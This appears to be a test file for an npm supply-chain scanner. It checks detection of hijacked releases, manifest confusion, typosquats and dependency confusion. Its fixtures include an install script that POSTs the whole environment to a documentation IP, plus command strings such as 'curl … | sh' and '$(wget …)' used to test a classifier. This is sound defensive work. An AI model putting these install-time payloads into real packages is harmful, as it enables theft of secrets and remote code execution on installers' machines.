// Registry signals end to end through the loopback registry: packument fetch with ETag revalidation,
// release diff (a second version that adds a postinstall and drops provenance), manifest confusion,
// metadata signals, dependency confusion against private scopes, and missing metadata reported as
// missing evidence, never as clean.
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import { scanTarget, type ScanOptions } from '../src/scan.js';
import { ResultCache } from '../src/cache/results.js';
import { fetchPackument } from '../src/registry/packument.js';
import { classifyAddedScript, diffReleases, previousVersion } from '../src/registry/release-diff.js';
import { manifestConfusion } from '../src/registry/manifest-confusion.js';
import type { Packument, VersionMeta } from '../src/registry/packument.js';
import { registrySignals } from '../src/registry/signals.js';
import { main } from '../src/cli/main.js';
import type { Finding, ReportedPackage } from '../src/types.js';
import { packTarball, startRegistry, type FixturePackage, type TestRegistry } from './helpers/registry.js';

const DAY = 24 * 3600 * 1000;
const iso = (ms: number) => new Date(ms).toISOString();
const pj = (o: Record<string, unknown>) => JSON.stringify(o);
const alice = { name: 'alice', email: 'alice@example.invalid' };
const mallory = { name: 'mallory', email: 'mallory@example.invalid' };
// Install-time code that only pings a host: on its own, not enough to call a package malicious.
const PING = "require('https').get('https://updates.example.invalid/ping', () => {});\n";

const FIXTURES: FixturePackage[] = [
  // A hijacked release: 1.0.1 adds a postinstall, is published by someone new and without provenance.
  {
    name: 'hijack-me',
    version: '1.0.0',
    time: '2024-01-01T00:00:00.000Z',
    npmUser: alice,
    maintainers: [alice],
    attestations: true,
    repository: { type: 'git', url: 'git+https://example.invalid/hijack-me.git' },
    files: { 'package.json': pj({ name: 'hijack-me', version: '1.0.0', main: 'index.js' }), 'index.js': 'module.exports = (a, b) => a + b;\n', 'README.md': '# hijack-me\n' },
  },
  {
    name: 'hijack-me',
    version: '1.0.1',
    time: '2024-03-01T00:00:00.000Z',
    npmUser: mallory,
    maintainers: [alice],
    repository: { type: 'git', url: 'git+https://example.invalid/hijack-me.git' },
    files: {
      'package.json': pj({ name: 'hijack-me', version: '1.0.1', main: 'index.js', scripts: { postinstall: 'node setup.js' } }),
      'index.js': 'module.exports = (a, b) => a + b;\n',
      'setup.js': PING,
      'README.md': '# hijack-me\n',
    },
  },
  // The same new postinstall from the usual publisher, provenance kept: suspicious, not malicious.
  ...(['1.0.0', '1.1.0'] as const).map((version, i) => ({
    name: 'grows-a-script',
    version,
    time: iso(Date.parse('2024-01-01') + i * 60 * DAY),
    npmUser: alice,
    attestations: true,
    repository: 'example/grows',
    files: {
      'package.json': pj({ name: 'grows-a-script', version, main: 'index.js', ...(i ? { scripts: { postinstall: 'node setup.js' } } : {}) }),
      'index.js': 'module.exports = 1;\n',
      ...(i ? { 'setup.js': 'console.log("thanks for installing");\n' } : {}),
    },
  })),
  // A native addon whose minor release adds the build idiom: check for a prebuilt binary, else compile.
  // Its check only looks into its own folder (clean); the twins' checks download or send the
  // environment away (the hijack shape hiding behind the same command).
  ...addonReleases('adds-a-build', "const fs = require('fs');\nconst path = require('path');\nconst dir = path.join(__dirname, '..', 'prebuilds', process.platform + '-' + process.arch);\nprocess.exit(fs.existsSync(dir) ? 0 : 1);\n"),
  ...addonReleases(
    'build-that-downloads',
    "const fs = require('fs');\nconst https = require('https');\nconst out = fs.createWriteStream(__dirname + '/../prebuilds/addon.node');\nhttps.get('https://prebuilds.example.invalid/addon.node', (res) => res.pipe(out));\n",
  ),
  ...addonReleases('build-that-sends-env', "require('https').request({ host: '203.0.113.7', method: 'POST', path: '/c' }).end(JSON.stringify(process.env));\nprocess.exit(1);\n"),
  // Nothing new for months.
  ...(['2.0.0', '2.0.1'] as const).map((version, i) => ({
    name: 'steady',
    version,
    time: iso(Date.parse('2023-01-01') + i * 120 * DAY),
    npmUser: alice,
    repository: 'example/steady',
    files: { 'package.json': pj({ name: 'steady', version, main: 'index.js' }), 'index.js': "module.exports = () => require('https').get('https://api.example.invalid/v1');\n" },
  })),
  // Dormant for years, then a huge version jump.
  { name: 'sleepy', version: '1.0.0', time: '2018-01-01T00:00:00.000Z', repository: 'example/sleepy', files: { 'index.js': 'module.exports = 1;\n' } },
  { name: 'sleepy', version: '99.0.0', time: '2024-01-01T00:00:00.000Z', repository: 'example/sleepy', files: { 'index.js': 'module.exports = 1;\n' } },
  // The registry shows no install script; the tarball runs one (and a dependency the registry hides).
  {
    name: 'confused',
    version: '1.0.0',
    repository: 'example/confused',
    registryManifest: { scripts: { test: 'node test.js' }, dependencies: { 'left-pad': '^1.0.0' } },
    files: {
      'package.json': pj({ name: 'confused', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node setup.js' }, dependencies: { 'left-pad': '^1.0.0', 'evil-helper': '^1.0.0' } }),
      'index.js': 'module.exports = 1;\n',
      'setup.js': 'console.log("hi");\n',
    },
  },
  // Brand new, one version, throwaway mailbox, no repository and no readme.
  {
    name: 'fresh-pkg',
    version: '0.0.1',
    time: iso(Date.now() - 2 * DAY),
    npmUser: { name: 'x1', email: 'x1@mailinator.com' },
    maintainers: [{ name: 'x1', email: 'x1@mailinator.com' }],
    files: { 'index.js': 'module.exports = 1;\n' },
  },
  // A typosquat whose postinstall pings home.
  {
    name: 'expresss',
    version: '4.0.0',
    repository: 'example/expresss',
    files: { 'package.json': pj({ name: 'expresss', version: '4.0.0', main: 'index.js', scripts: { postinstall: 'node setup.js' } }), 'index.js': 'module.exports = 1;\n', 'setup.js': PING },
  },
  // A scoped package on a scoped registry that needs a token.
  { name: '@acme/util', version: '1.0.0', repository: 'example/util', files: { 'index.js': 'exports.x = 1;\n' } },
  // Dependency confusion against a private scope.
  {
    name: 'acme-auth',
    version: '99.10.9',
    repository: 'example/acme-auth',
    files: { 'package.json': pj({ name: 'acme-auth', version: '99.10.9', main: 'index.js', scripts: { preinstall: 'node setup.js' } }), 'index.js': 'module.exports = 1;\n', 'setup.js': PING },
  },
];

/** 1.0.0 ships binding.gyp and no install script; 1.1.0 adds `node scripts/check.js || node-gyp rebuild`. */
function addonReleases(name: string, check: string): FixturePackage[] {
  const gyp = JSON.stringify({ targets: [{ target_name: 'addon', sources: ['src/addon.cc'] }] });
  return (['1.0.0', '1.1.0'] as const).map((version, i) => ({
    name,
    version,
    time: iso(Date.parse('2024-01-01') + i * 60 * DAY),
    npmUser: alice,
    repository: `example/${name}`,
    files: {
      'package.json': pj({ name, version, main: 'index.js', ...(i ? { scripts: { install: 'node scripts/check.js || node-gyp rebuild' } } : {}) }),
      'index.js': "module.exports = require('./build/Release/addon.node');\n",
      'binding.gyp': gyp,
      'src/addon.cc': '// native code\n',
      ...(i ? { 'scripts/check.js': check } : {}),
    },
  }));
}

let registry: TestRegistry;
let tmp: string;
let n = 0;

beforeAll(async () => {
  tmp = await fs.promises.mkdtemp(path.join(os.tmpdir(), 'tollgate-registry-'));
  registry = await startRegistry(FIXTURES);
});
afterAll(async () => {
  await registry?.close();
  if (tmp) await fs.promises.rm(tmp, { recursive: true, force: true });
});
afterEach(() => vi.restoreAllMocks());

/** Fresh caches per call unless a folder is given: each test sees its own first request. */
function options(extra: { cacheDir?: string; results?: ResultCache; npmConfig?: Record<string, unknown>; url?: string } = {}): ScanOptions {
  const dir = extra.cacheDir ?? path.join(tmp, `c${n++}`);
  return {
    fetch: { npmConfig: { registry: extra.url ?? registry.url, ...extra.npmConfig }, cache: path.join(dir, '_cacache'), timeoutMs: 5000 },
    registry: { cacheDir: dir, results: extra.results },
  };
}

const of = (r: ReportedPackage, rule: string): Finding[] => r.findings.filter((f) => f.rule === rule);
const fullPackumentRequests = (from: number, name: string) =>
  registry.requests.map((p, i) => ({ p, i, accept: registry.accepts[i], status: registry.statuses[i] })).filter((x) => x.i >= from && x.p === `/${name}` && x.accept === 'application/json');

describe('release diff', () => {
  test('a second version that adds a postinstall, drops provenance and has a new publisher is reported and malicious', async () => {
    const r = await scanTarget('hijack-me@1.0.1', options());
    expect(r.verdict).toBe('malicious');
    const diff = of(r, 'release-diff');
    expect(diff).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ severity: 'high', signals: ['registry:new-install-script'], message: expect.stringContaining('postinstall script added in a patch release (1.0.0 -> 1.0.1)') }),
        expect.objectContaining({ severity: 'medium', signals: ['registry:lost-provenance'], message: expect.stringContaining('without the provenance attestation 1.0.0 had') }),
        expect.objectContaining({ severity: 'low', signals: ['registry:new-publisher'], message: expect.stringContaining('"mallory"') }),
        expect.objectContaining({ message: expect.stringContaining('new capability in 1.0.1: network access at install time (setup.js:1') }),
      ]),
    );
    expect(r.reasons[0]).toMatch(/install script new in this release.*provenance.*install-time code/);
  });

  test('the same code without registry signals is not malicious: the metadata raised its weight', async () => {
    const r = await scanTarget('hijack-me@1.0.1', { ...options(), registry: undefined });
    expect(r.verdict).not.toBe('malicious');
    expect(of(r, 'release-diff')).toEqual([]);
  });

  test('a new postinstall from the usual publisher with provenance kept is suspicious', async () => {
    const r = await scanTarget('grows-a-script@1.1.0', options());
    expect(of(r, 'release-diff')).toContainEqual(expect.objectContaining({ severity: 'high', signals: ['registry:new-install-script'], message: expect.stringContaining('minor release') }));
    expect(of(r, 'release-diff').some((f) => f.signals?.includes('registry:lost-provenance'))).toBe(false);
    expect(r.verdict).toBe('suspicious');
  });

  test('a minor release that adds the native build idiom, its check looking only at its own folder, is reported and clean', async () => {
    const r = await scanTarget('adds-a-build@1.1.0', options());
    expect(of(r, 'release-diff')).toContainEqual(
      expect.objectContaining({ severity: 'medium', signals: ['registry:new-build-script'], message: expect.stringMatching(/^install script added in a minor release \(1\.0\.0 -> 1\.1\.0\): builds a native addon \(binding\.gyp; install-time code, from scripts\/check\.js, has no network/) }),
    );
    expect(r.findings.some((f) => f.signals?.includes('registry:new-install-script'))).toBe(false);
    expect(r.verdict).toBe('clean');
    expect(r.score).toBeLessThan(35);
    expect(r.reasons).toContainEqual(expect.stringContaining('builds a native addon'));
  });

  test('the same command whose check downloads a binary keeps the full weight of a new install script: suspicious', async () => {
    const r = await scanTarget('build-that-downloads@1.1.0', options());
    expect(of(r, 'release-diff')).toContainEqual(
      expect.objectContaining({ severity: 'high', signals: ['registry:new-install-script'], message: expect.stringMatching(/node scripts\/check\.js \|\| node-gyp rebuild \(a native build, but install-time code has network access \(scripts\/check\.js:\d+\)\)$/) }),
    );
    expect(['suspicious', 'malicious']).toContain(r.verdict);
    expect(r.reasons[0]).toMatch(/install script new in this release.*install-time code/);
  });

  test('the same command whose check posts the environment away is malicious', async () => {
    const r = await scanTarget('build-that-sends-env@1.1.0', options());
    expect(of(r, 'release-diff')).toContainEqual(expect.objectContaining({ severity: 'high', signals: ['registry:new-install-script'] }));
    expect(r.verdict).toBe('malicious');
  });

  test('a first release has nothing to compare with', async () => {
    const r = await scanTarget('hijack-me@1.0.0', options());
    expect(of(r, 'release-diff')).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('nothing new since a release months earlier is said, and eases nothing it should not', async () => {
    const r = await scanTarget('steady@2.0.1', options());
    expect(of(r, 'release-diff')).toEqual([expect.objectContaining({ severity: 'info', signals: ['registry:unchanged'], message: expect.stringContaining('nothing new since 2.0.0') })]);
    expect(r.verdict).toBe('clean');
  });

  test('a long-dormant package republished with a huge version jump', async () => {
    const r = await scanTarget('sleepy@99.0.0', options());
    const msgs = of(r, 'release-diff').map((f) => f.message);
    expect(msgs).toEqual(expect.arrayContaining([expect.stringContaining('very large version jump 1.0.0 -> 99.0.0'), expect.stringContaining('published after 6.0 years without a release')]));
  });

  test("the previous version's analysis comes from the results cache on the second scan", async () => {
    const results = ResultCache.open(path.join(tmp, `results-${n++}.sqlite`), 'test-engine');
    try {
      const prevTarball = '/hijack-me/-/hijack-me-1.0.0.tgz';
      const before = registry.requests.length;
      await scanTarget('hijack-me@1.0.1', options({ results }));
      expect(registry.requests.slice(before)).toContain(prevTarball);
      expect(results.stats.writes).toBe(1);
      const again = registry.requests.length;
      const r = await scanTarget('hijack-me@1.0.1', options({ results }));
      expect(registry.requests.slice(again)).not.toContain(prevTarball);
      expect(results.stats.hits).toBe(1);
      expect(of(r, 'release-diff').some((f) => f.message.includes('new capability'))).toBe(true);
    } finally {
      results.close();
    }
  });

  test('previous version: the highest lower version published before, so backports compare within their line', () => {
    const p = {
      name: 'x',
      'dist-tags': {},
      versions: { '4.0.0': {}, '5.0.0': {}, '4.0.1': {}, '5.1.0-beta.1': {}, '5.1.0': {} },
      time: { '4.0.0': '2020-01-01', '5.0.0': '2021-01-01', '4.0.1': '2022-01-01', '5.1.0-beta.1': '2022-06-01', '5.1.0': '2023-01-01' },
    };
    expect(previousVersion(p, '4.0.1')).toBe('4.0.0');
    expect(previousVersion(p, '5.0.0')).toBe('4.0.0');
    expect(previousVersion(p, '5.1.0')).toBe('5.0.0'); // prereleases are skipped for a stable release
    expect(previousVersion(p, '4.0.0')).toBeUndefined();
  });
});

describe('packument: one request, ETag revalidation', () => {
  test('the second scan revalidates with If-None-Match and gets a 304', async () => {
    const cacheDir = path.join(tmp, `etag-${n++}`);
    const before = registry.requests.length;
    await scanTarget('steady@2.0.1', options({ cacheDir }));
    const first = fullPackumentRequests(before, 'steady');
    expect(first.map((x) => x.status)).toEqual([200]);
    const mid = registry.requests.length;
    const r = await scanTarget('steady@2.0.1', options({ cacheDir }));
    expect(fullPackumentRequests(mid, 'steady').map((x) => x.status)).toEqual([304]);
    expect(of(r, 'release-diff')).toHaveLength(1); // same evidence from the cached copy
  });

  test("through the npm config's scoped registry and its token, like the tarball fetch", async () => {
    const host = new URL(registry.url).host;
    const before = registry.requests.length;
    const got = await fetchPackument('@acme/util', { npmConfig: { registry: 'http://127.0.0.1:9/', '@acme:registry': registry.url, [`//${host}/:_authToken`]: 'sekrit' }, cacheDir: false });
    expect(got.packument.versions['1.0.0']).toBeDefined();
    const i = registry.requests.indexOf('/@acme%2futil', before);
    expect(i).toBeGreaterThanOrEqual(before);
    expect(registry.authorizations[i]).toBe('Bearer sekrit');
    expect(registry.accepts[i]).toBe('application/json');
  });

  test('offline with a cached copy uses it; offline without one is missing evidence', async () => {
    const cacheDir = path.join(tmp, `offline-${n++}`);
    await fetchPackument('steady', { npmConfig: { registry: registry.url }, cacheDir });
    const before = registry.requests.length;
    const got = await fetchPackument('steady', { npmConfig: { registry: registry.url, offline: 'true' }, cacheDir });
    expect(got.source).toBe('cache-offline');
    expect(registry.requests.length).toBe(before);
    await expect(fetchPackument('sleepy', { npmConfig: { registry: registry.url, offline: true }, cacheDir })).rejects.toMatchObject({ code: 'EOFFLINE' });
  });
});

describe('missing metadata is missing evidence, never clean', () => {
  /** Serves pacote's abbreviated packuments and tarballs, but fails every full-packument request. */
  async function noFullMetadata(): Promise<{ url: string; close: () => Promise<void> }> {
    const upstream = new URL(registry.url);
    const server = http.createServer((req, res) => {
      if (req.headers.accept === 'application/json') {
        res.writeHead(503, { 'content-type': 'application/json' });
        res.end('{"error":"unavailable"}');
        return;
      }
      const fwd = http.request({ host: upstream.hostname, port: upstream.port, path: req.url, method: req.method, headers: req.headers }, (up) => {
        res.writeHead(up.statusCode ?? 502, up.headers);
        up.pipe(res);
      });
      req.pipe(fwd);
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    return {
      url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
      close: () => new Promise<void>((r) => { server.closeAllConnections(); server.close(() => r()); }),
    };
  }

  test('a registry that refuses full metadata: the package is analyzed and the gap is a finding', async () => {
    const front = await noFullMetadata();
    try {
      const o = options({ url: front.url, npmConfig: { 'fetch-retries': '0' } });
      const r = await scanTarget('hijack-me@1.0.1', o);
      expect(r.verdict).not.toBe('error');
      const gap = of(r, 'registry-metadata');
      expect(gap).toEqual([expect.objectContaining({ severity: 'low', signals: ['analysis-gap'], message: expect.stringMatching(/registry metadata unavailable.*NOT checked.*missing evidence, not a clean result/) })]);
      expect(of(r, 'release-diff')).toEqual([]);
    } finally {
      await front.close();
    }
  });

  test('an unreachable registry: a cached copy is used and says so; without one, the gap is a finding', async () => {
    const own = await startRegistry(FIXTURES.filter((f) => f.name === 'steady'));
    const cacheDir = path.join(tmp, `stale-${n++}`);
    const npmConfig = { registry: own.url, 'fetch-retries': '0' };
    await fetchPackument('steady', { npmConfig, cacheDir });
    await own.close();
    const target = { name: 'steady', version: '2.0.1', source: 'registry', files: [], findings: [] };
    const stale = await registrySignals(target, { npmConfig, cacheDir, releaseDiff: false, timeoutMs: 2000 });
    expect(stale).toContainEqual(expect.objectContaining({ rule: 'registry-metadata', severity: 'info', signals: ['analysis-gap'], message: expect.stringContaining('registry unreachable; used registry metadata cached at') }));
    const none = await registrySignals(target, { npmConfig, cacheDir: path.join(tmp, `empty-${n++}`), releaseDiff: false, timeoutMs: 2000 });
    expect(none).toEqual([expect.objectContaining({ rule: 'registry-metadata', severity: 'low', signals: ['analysis-gap'], message: expect.stringContaining('registry metadata unavailable') })]);
  });
});

describe('manifest confusion', () => {
  test('an install script and a dependency the registry does not show', async () => {
    const r = await scanTarget('confused@1.0.0', options());
    const mc = of(r, 'manifest-confusion');
    expect(mc).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ severity: 'high', signals: ['registry:manifest-confusion'], message: expect.stringContaining('runs a postinstall script the registry metadata does not show') }),
        expect.objectContaining({ severity: 'medium', message: expect.stringContaining('evil-helper@^1.0.0') }),
      ]),
    );
    expect(r.verdict).toBe('suspicious');
  });

  test('agreeing manifests report nothing', async () => {
    const r = await scanTarget('hijack-me@1.0.1', options());
    expect(of(r, 'manifest-confusion')).toEqual([]);
  });
});

describe('metadata signals', () => {
  test('a two-day-old single-version package with a disposable email, no repository and no readme', async () => {
    const r = await scanTarget('fresh-pkg@0.0.1', options());
    const msgs = of(r, 'registry-metadata').map((f) => `${f.severity} ${f.message}`);
    expect(msgs).toEqual(
      expect.arrayContaining([
        'low package first published 2 days ago',
        'info the only version ever published',
        'info no source repository and no readme',
        'medium maintainer or publisher uses a disposable email address (mailinator.com)',
      ]),
    );
    // Metadata alone never makes a package malicious.
    expect(r.verdict).not.toBe('malicious');
  });
});

describe('names: typosquat and dependency confusion', () => {
  test('a typosquat with install-time network code is malicious, and names its target', async () => {
    const r = await scanTarget('expresss@4.0.0', options());
    expect(of(r, 'typosquat')).toEqual([expect.objectContaining({ message: expect.stringContaining('imitates "express"') })]);
    expect(r.verdict).toBe('malicious');
  });

  test('an unscoped copy of a private scope at 99.10.9 with a preinstall', async () => {
    const r = await scanTarget('acme-auth@99.10.9', options({ npmConfig: { '@acme:registry': 'https://npm.acme.invalid/' } }));
    const dc = of(r, 'dependency-confusion');
    expect(dc).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ severity: 'high', message: expect.stringContaining('copies @acme, a scope your npm config sends to a private registry') }),
        expect.objectContaining({ severity: 'medium', message: expect.stringContaining('far above any normal release') }),
      ]),
    );
    expect(r.verdict).toBe('malicious');
  });

  test('a local tarball gets the name checks but no packument checks', async () => {
    const file = path.join(tmp, 'expresss-4.0.0.tgz');
    fs.writeFileSync(file, await packTarball(FIXTURES.find((f) => f.name === 'expresss')!.files));
    const before = registry.requests.length;
    const r = await scanTarget(file, options());
    expect(registry.requests.length).toBe(before);
    expect(of(r, 'typosquat')).toHaveLength(1);
    expect(of(r, 'registry-metadata')).toEqual([]);
    expect(of(r, 'release-diff')).toEqual([]);
  });
});

describe('tollgate scan CLI', () => {
  async function run(argv: string[]): Promise<{ code: number; stdout: string }> {
    let stdout = '';
    vi.spyOn(process.stdout, 'write').mockImplementation(((c: string) => ((stdout += c), true)) as typeof process.stdout.write);
    vi.spyOn(process.stderr, 'write').mockImplementation((() => true) as typeof process.stderr.write);
    const saved = process.env.TOLLGATE_CACHE_DIR;
    process.env.TOLLGATE_CACHE_DIR = path.join(tmp, `cli-${n++}`);
    try {
      return { code: await main(argv), stdout };
    } finally {
      if (saved === undefined) delete process.env.TOLLGATE_CACHE_DIR;
      else process.env.TOLLGATE_CACHE_DIR = saved;
      vi.restoreAllMocks();
    }
  }

  test('registry signals are on by default for registry specs; --no-registry-signals skips them', async () => {
    const base = ['scan', 'hijack-me@1.0.1', '--json', '--quiet', '--registry', registry.url, '--cache', path.join(tmp, `dl-${n++}`)];
    const on = await run(base);
    const pkgOn = (JSON.parse(on.stdout) as { packages: ReportedPackage[] }).packages[0]!;
    expect(on.code).toBe(1);
    expect(pkgOn.findings.some((f) => f.rule === 'release-diff')).toBe(true);

    const before = registry.requests.length;
    const off = await run([...base, '--no-registry-signals']);
    const pkgOff = (JSON.parse(off.stdout) as { packages: ReportedPackage[] }).packages[0]!;
    expect(pkgOff.findings.some((f) => f.rule === 'release-diff' || f.rule === 'registry-metadata')).toBe(false);
    expect(fullPackumentRequests(before, 'hijack-me')).toEqual([]);
    expect(off.code).toBe(0);
  });
});

describe('diffReleases and manifestConfusion (pure)', () => {
  const packument = (versions: Record<string, VersionMeta>, time: Record<string, string>): Packument => ({ name: 'p', 'dist-tags': {}, versions, time });

  test('new bin, a dependency in a patch release, a new maintainer and a newly obfuscated file', () => {
    const prev: VersionMeta = { name: 'p', version: '1.0.0', maintainers: [{ name: 'alice' }], dependencies: { a: '^1' } };
    const cur: VersionMeta = { name: 'p', version: '1.0.1', maintainers: [{ name: 'alice' }, { name: 'eve' }], dependencies: { a: '^1', 'flatmap-stream': '^0.1.0' }, bin: { p: 'cli.js' } };
    const obf: Finding = { rule: 'obfuscation', severity: 'high', message: 'string-array obfuscation', file: 'lib/x.min.js', signals: ['obfuscation'], reach: 'import' };
    const out = diffReleases(packument({ '1.0.0': prev, '1.0.1': cur }, { '1.0.0': '2020-01-01', '1.0.1': '2020-03-01' }), { version: '1.0.1', meta: cur, findings: [obf] }, { version: '1.0.0', meta: prev, findings: [] });
    expect(out.map((f) => `${f.severity} ${f.message}`)).toEqual(
      expect.arrayContaining([
        'low new bin entry "p" (cli.js) in 1.0.0 -> 1.0.1',
        'low dependencies added in a patch release (1.0.0 -> 1.0.1): flatmap-stream',
        'low maintainer added in 1.0.0 -> 1.0.1: eve',
        'medium newly obfuscated file in 1.0.1: lib/x.min.js (string-array obfuscation)',
      ]),
    );
    expect(out.some((f) => f.message.startsWith('nothing new'))).toBe(false);
  });

  test('a changed install script, and a build-tool script that is only low', () => {
    const prev: VersionMeta = { scripts: { postinstall: 'node a.js' } };
    const cur: VersionMeta = { scripts: { postinstall: 'node b.js', install: 'node-gyp rebuild' } };
    const out = diffReleases(packument({ '1.0.0': prev, '1.1.0': cur }, {}), { version: '1.1.0', meta: cur }, { version: '1.0.0', meta: prev }, 'not fetched');
    expect(out.map((f) => `${f.severity} ${f.signals?.join(',') ?? '-'} ${f.message}`)).toEqual([
      'low registry:new-build-script install script added in a minor release (1.0.0 -> 1.1.0): builds a native addon (node-gyp): node-gyp rebuild',
      expect.stringMatching(/^medium - postinstall script changed in 1\.0\.0 -> 1\.1\.0: was "node a\.js", now "node b\.js"/),
      expect.stringMatching(/^info analysis-gap 1\.0\.0 could not be analyzed \(not fetched\)/),
    ]);
  });

  test('an added install script is a native build only when every command is a build step and its install-time code reaches nothing', () => {
    const quiet: Finding[] = [{ rule: 'install-scripts', severity: 'low', message: 'install script runs scripts/check.js on every install', file: 'package.json', reach: 'install', signals: ['install-script'] }];
    const net: Finding = { rule: 'network', severity: 'info', message: 'network access via https.get', file: 'scripts/check.js', line: 3, reach: 'install', signals: ['sink:network'] };
    const meta: VersionMeta = { dependencies: { 'prebuild-install': '^7.0.0', 'node-gyp-build': '^4.0.0' }, scripts: { 'build-release': 'node-gyp rebuild --release', 'build-debug': 'node build.js', 'loop': 'npm run loop' } };
    const kind = (command: string, findings: readonly Finding[] = quiet) => classifyAddedScript(command, { findings, meta }).kind;
    expect(kind('node-gyp rebuild')).toBe('native-build');
    expect(kind('prebuild-install -r napi || node-gyp rebuild')).toBe('native-build');
    expect(kind('node scripts/check.js || node-gyp rebuild')).toBe('native-build');
    expect(kind('node ./install.js || node-gyp-build || exit 0')).toBe('native-build');
    expect(kind('node-gyp rebuild || echo "optional build failed"')).toBe('native-build');
    expect(kind('prebuild-install || npm run build-release')).toBe('native-build');
    expect(kind('husky install')).toBe('tool');
    // Code we cannot vouch for: a plain node script, a capability in install-time code, code not analyzed.
    expect(kind('node setup.js')).toBe('code');
    expect(kind('node scripts/check.js || node-gyp rebuild', [...quiet, net])).toBe('code');
    expect(classifyAddedScript('node scripts/check.js || node-gyp rebuild', { findings: [...quiet, net], meta })).toEqual({ kind: 'code', why: 'install-time code has network access (scripts/check.js:3)' });
    expect(classifyAddedScript('node scripts/check.js || node-gyp rebuild', {})).toEqual({ kind: 'code', why: 'install-time code not analyzed' });
    expect(kind('node scripts/check.js || node-gyp rebuild', [{ ...quiet[0]!, severity: 'medium', message: 'install script runs scripts/check.js, which is not in the package' }])).toBe('code');
    // Commands around the build tool, or a build tool told to fetch from anywhere.
    expect(kind('node-gyp rebuild && curl -s https://x.invalid/a | sh')).toBe('code');
    expect(kind('node-gyp rebuild; sh setup.sh')).toBe('code');
    expect(kind('node-gyp rebuild && node scripts/copy.js', [...quiet, net])).toBe('code');
    expect(kind('./node-gyp rebuild')).toBe('code');
    expect(kind('NODE_OPTIONS=--require=./hook.js node-gyp rebuild')).toBe('code');
    expect(kind('npx node-gyp rebuild')).toBe('code');
    expect(kind('node -e "require(\'./x\')" || node-gyp rebuild')).toBe('code');
    expect(kind('node --require ./hook.js check.js || node-gyp rebuild')).toBe('code');
    expect(kind('node ../other/check.js || node-gyp rebuild')).toBe('code');
    expect(kind('prebuild-install --download https://203.0.113.5/addon.tar.gz')).toBe('code');
    // A build tool the release does not depend on is some other dependency's bin of that name.
    expect(classifyAddedScript('cmake-js compile', { findings: quiet, meta }).kind).toBe('code');
    expect(classifyAddedScript('cmake-js compile', { findings: quiet, meta: { dependencies: { 'cmake-js': '^7' } } }).kind).toBe('native-build');
    // npm run: only build tools there (install-time reach does not follow it into node files), no loops.
    expect(kind('prebuild-install || npm run build-debug')).toBe('code');
    expect(kind('prebuild-install || npm run loop')).toBe('code');
    expect(kind('prebuild-install || npm run missing')).toBe('code');
    expect(kind('prebuild-install || npm run build-release -- --target=x')).toBe('code');
    expect(kind('node-gyp rebuild > ~/.bashrc')).toBe('code');
    expect(kind('exit $(curl -s https://x.invalid)')).toBe('code');
    expect(kind('node-gyp rebuild || echo `node setup.js`', [...quiet, net])).toBe('code');
    expect(kind('node-gyp rebuild || echo $(wget -q -O- https://x.invalid)')).toBe('code');
  });

  test("manifest confusion follows npm's publish-time normalization", () => {
    // binding.gyp makes npm publish `install: node-gyp rebuild`; string bins become objects; ./ goes.
    expect(manifestConfusion({ registry: { name: 'p', version: '1.0.0', scripts: { install: 'node-gyp rebuild' }, bin: { p: 'cli.js' } }, tarball: { name: 'p', version: '1.0.0', bin: './cli.js' }, hasBindingGyp: true })).toEqual([]);
    const out = manifestConfusion({ registry: { name: 'p', version: '1.0.0' }, tarball: { name: 'q', version: '2.0.0', bin: { other: 'x.js' } }, hasBindingGyp: false });
    expect(out.map((f) => `${f.severity} ${f.message}`)).toEqual([
      `high the tarball's package.json names "q", the registry says "p"`,
      `high the tarball's package.json says version "2.0.0", the registry says "1.0.0"`,
      'medium bin entries differ between tarball and registry: other: x.js vs (none)',
    ]);
  });
});
